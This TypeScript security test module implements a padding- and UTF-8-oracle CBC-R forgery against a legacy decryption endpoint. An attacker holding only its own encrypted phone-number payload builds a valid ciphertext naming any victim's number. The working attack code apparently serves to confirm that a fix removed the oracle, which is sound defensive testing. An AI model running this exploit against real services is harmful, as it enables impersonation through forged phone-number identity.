/**
 * @module test/security/cbcForgery — the red team's F1 attack, written down: with a decryption
 * oracle on the legacy path, a user who holds only its OWN tap's `encryptedData` + `iv` builds a
 * ciphertext of `{…"purePhoneNumber":"<anyone>",…}` under its own session key (CBC-R).
 *
 * The oracle: the old `getOpenData` answered DECRYPT_SESSION_KEY_MISMATCH exactly when padding or
 * UTF-8 was bad, something else otherwise. For a chosen block Y the attack learns D(Y) in three
 * steps, then chains two such blocks in front of the genuine tail of its own ciphertext:
 * 1. search: random first-block ivs in front of Y (followed by blocks whose plaintext is known
 *    ASCII and the genuine padded tail) until the oracle says "valid UTF-8" (~1 in 10 k);
 * 2. to ASCII: flipping bit 6 of a byte keeps it valid iff that byte is ASCII (16 queries), and
 *    clearing bit 7 of the others makes the whole block ASCII;
 * 3. padding: with Y alone as the last block and an ASCII prefix, the classic byte-by-byte
 *    padding attack (≤ 128 guesses per byte, since each byte is known to be ASCII).
 *
 * The attacker gives up as soon as the oracle stops answering: when two calibrations in a row
 * (a probe that only garbles UTF-8 vs one that only breaks JSON) get the same answer, or when
 * the key is gone (LOGIN_REQUIRED). Pure: the caller supplies the query function.
 */
import { randomBytes } from 'node:crypto'

/** Sends one chosen `{encryptedData, iv}` and returns the answer's code ('OK' on success). */
export type Query = (ciphertext: Buffer, iv: Buffer) => Promise<string>

export interface ForgeryInput {
  /** The attacker's own tap. */
  iv: Buffer
  ciphertext: Buffer
  /** The attacker's own plaintext, as far as it knows it (its number, WeChat's layout): the
   * first four blocks `{"phoneNumber":"<own>","purePhoneNumber":"<own>","co`. */
  knownHead: string
  /** The 11-digit mainland number to forge. */
  victim: string
  query: Query
  /** Hard bound on oracle queries (the issue's: 100 k). */
  maxQueries: number
  /** Queries sent at once while searching (the search is embarrassingly parallel). */
  parallel?: number
}

export type ForgeryOutcome =
  | { result: 'forged'; queries: number; ciphertext: Buffer; iv: Buffer; answer: string }
  | { result: 'gave-up'; queries: number; reason: string; answers: Record<string, number> }

class GiveUp extends Error {}

const xor = (a: Buffer, b: Buffer): Buffer => Buffer.from(a.map((v, i) => v ^ b[i]))
const blocks = (b: Buffer): Buffer[] => Array.from({ length: b.length / 16 }, (_, i) => b.subarray(i * 16, i * 16 + 16))

export async function forgeVictimCiphertext(input: ForgeryInput): Promise<ForgeryOutcome> {
  const { victim, maxQueries, parallel = 1 } = input
  const answers: Record<string, number> = {}
  let queries = 0
  let invalidAnswer = ''
  const ask = async (ciphertext: Buffer, iv: Buffer): Promise<string> => {
    if (queries >= maxQueries) throw new GiveUp(`query budget of ${maxQueries} spent`)
    queries += 1
    const answer = await input.query(ciphertext, iv)
    answers[answer] = (answers[answer] ?? 0) + 1
    if (answer === 'LOGIN_REQUIRED') throw new GiveUp('the session key is gone (LOGIN_REQUIRED)')
    return answer
  }
  /** True when the server found the chosen plaintext well padded and valid UTF-8. */
  const valid = async (ciphertext: Buffer, iv: Buffer) => (await ask(ciphertext, iv)) !== invalidAnswer

  const C = blocks(input.ciphertext)
  const P = blocks(Buffer.from(input.knownHead, 'utf8'))
  if (C.length < 6 || P.length < 4) throw new Error('need the 4 known head blocks and a tail')
  const tail = C.slice(4) // `untryCode":"86","watermark":{…}}` + padding, kept genuine
  const dC3 = xor(P[3], C[2]) // D(C[3]), known: plaintext block 4 is `<own number>","co`

  // Calibration: the same genuine ciphertext, once with the first byte made invalid UTF-8 (0xFF)
  // and once with it made 'X' (valid UTF-8, no longer JSON). Equal answers: no oracle.
  const calibrate = async (): Promise<boolean> => {
    const bad = Buffer.from(input.iv)
    bad[0] ^= P[0][0] ^ 0xff
    const notJson = Buffer.from(input.iv)
    notJson[0] ^= P[0][0] ^ 0x58
    const a = await ask(input.ciphertext, bad)
    const b = await ask(input.ciphertext, notJson)
    invalidAnswer = a
    return a !== b
  }

  /** D(Y), where `after` are the blocks to put behind Y: their plaintext must be ASCII when Y
   * precedes them and the last must be correctly padded. */
  const decryptBlock = async (Y: Buffer, after: Buffer[]): Promise<Buffer> => {
    const behind = Buffer.concat([Y, ...after])
    // 1. search a first-block iv giving valid UTF-8
    let found: Buffer | undefined
    while (!found) {
      const ivs = Array.from({ length: parallel }, () => randomBytes(16))
      const ok = await Promise.all(ivs.map((iv) => valid(behind, iv)))
      found = ivs[ok.indexOf(true)]
    }
    // 2. make every byte ASCII
    const asciiIv = Buffer.from(found)
    for (let i = 0; i < 16; i++) {
      const probe = Buffer.from(found)
      probe[i] ^= 0x40
      if (!(await valid(behind, probe))) asciiIv[i] ^= 0x80
    }
    if (!(await valid(behind, asciiIv))) throw new GiveUp('the oracle answered inconsistently')
    // 3. padding attack with Y as the last block: A = D(Y) ⊕ asciiIv is ASCII, byte by byte
    const d = Buffer.alloc(16)
    for (let j = 15; j >= 0; j--) {
      const pad = 16 - j
      let hit = -1
      for (let a = 0; a < 128 && hit < 0; a += parallel) {
        const guesses = Array.from({ length: Math.min(parallel, 128 - a) }, (_, k) => a + k)
        const ivFor = (g: number) => {
          const iv = Buffer.from(asciiIv)
          for (let m = j + 1; m < 16; m++) iv[m] = d[m] ^ pad
          iv[j] = asciiIv[j] ^ g ^ pad
          return iv
        }
        const ok = await Promise.all(guesses.map((g) => valid(Y, ivFor(g))))
        for (let k = 0; k < guesses.length && hit < 0; k++) {
          if (!ok[k]) continue
          if (j < 15) hit = guesses[k]
          else {
            // The last byte may also have made a valid `02 02` ending: changing byte 14
            // (still ASCII) keeps only a true `01` valid.
            const iv = ivFor(guesses[k])
            iv[14] ^= 0x01
            if (await valid(Y, iv)) hit = guesses[k]
          }
        }
      }
      if (hit < 0) throw new GiveUp('no padding guess was valid')
      d[j] = asciiIv[j] ^ hit
    }
    return d
  }

  try {
    if (!(await calibrate()) && !(await calibrate())) {
      throw new GiveUp('every answer is the same code: no oracle')
    }
    // Target plaintext: `{            "pu` `rePhoneNumber":"` `<victim>","co` + genuine tail.
    const T = blocks(Buffer.from(`{            "purePhoneNumber":"${victim}","co`, 'utf8'))
    const F2 = xor(dC3, T[2]) // so that C[3] decrypts to T[2] behind it
    const F1 = xor(await decryptBlock(F2, [C[3], ...tail]), T[1])
    const iv = xor(await decryptBlock(F1, [F2, C[3], ...tail]), T[0])
    const ciphertext = Buffer.concat([F1, F2, C[3], ...tail])
    return { result: 'forged', queries, ciphertext, iv, answer: await ask(ciphertext, iv) }
  } catch (e) {
    if (e instanceof GiveUp) return { result: 'gave-up', queries, reason: e.message, answers }
    throw e
  }
}
